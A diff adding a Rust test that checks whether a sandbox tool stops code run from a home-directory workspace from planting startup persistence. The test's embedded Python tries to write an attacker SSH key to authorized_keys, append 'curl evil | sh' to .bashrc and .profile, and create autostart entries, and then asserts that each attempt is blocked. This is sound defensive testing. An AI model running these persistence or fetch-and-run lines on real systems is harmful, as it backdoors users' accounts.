@@ -297,6 +297,62 @@ attempt('hardlink_secret', lambda: os.link(h + '/.ssh/id_ed25519', 'key'))
 }
 
 #[test]
+fn a_workspace_at_home_cannot_plant_startup_files_even_ones_that_do_not_exist() {
+    // The user starts interlock in $HOME: the workspace is the home directory, which has no ~/.ssh
+    // yet (hiding cannot cover a path that does not exist). Code must not create
+    // ~/.ssh/authorized_keys or autostart entries, nor append to ~/.bashrc: all run outside later.
+    let env = Env::new();
+    let home = tempfile::Builder::new()
+        .prefix("il-bare-home-")
+        .tempdir_in(base())
+        .unwrap();
+    let h = home.path();
+    std::fs::write(h.join(".bashrc"), "# original\n").unwrap();
+    for s in supports() {
+        let mut policy = Policy::for_workspace(SandboxMode::WorkspaceWrite, h, h, &[], &[]);
+        policy.limits = env.policy().limits;
+        let p = plan(&policy, &s).expect("plan");
+        assert!(
+            p.notes.iter().any(|n| n.contains("may not write")),
+            "{:?}",
+            p.notes
+        );
+        let code = format!(
+            "{ATTEMPT}
+h = {h:?}
+os.chdir(h)
+attempt('mkdir_ssh', lambda: os.makedirs(h + '/.ssh', exist_ok=True) or open(h + '/.ssh/authorized_keys', 'w').write('ssh-ed25519 AAAA attacker'))
+attempt('bashrc', lambda: open(h + '/.bashrc', 'a').write('curl evil | sh\\n'))
+attempt('autostart', lambda: os.makedirs(h + '/.config/autostart', exist_ok=True))
+attempt('profile', lambda: open(h + '/.profile', 'w').write('curl evil | sh\\n'))
+print('RAN')
+",
+            h = h.to_str().unwrap()
+        );
+        let vars: Vec<(OsString, OsString)> = vec![
+            ("PATH".into(), "/usr/local/bin:/usr/bin:/bin".into()),
+            ("HOME".into(), h.into()),
+        ];
+        let args: Vec<OsString> = vec!["-c".into(), code.into()];
+        let out = command(&p, Path::new(PY), &args, &vars, h, &helper())
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        let stdout = String::from_utf8_lossy(&out.stdout);
+        eprintln!("{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
+        assert_blocked(&stdout, &["mkdir_ssh", "bashrc", "autostart", "profile"]);
+        assert!(stdout.contains("RAN"), "{stdout}");
+        assert!(!h.join(".ssh").exists());
+        assert!(!h.join(".config").exists());
+        assert!(!h.join(".profile").exists());
+        assert_eq!(
+            std::fs::read_to_string(h.join(".bashrc")).unwrap(),
+            "# original\n"
+        );
+    }
+}
+
+#[test]
 fn git_hooks_and_config_stay_read_only() {
     // Only the namespace mode protects these (the fallback plan says so in its notes).
     let Some(s) = ns_support() else { return };
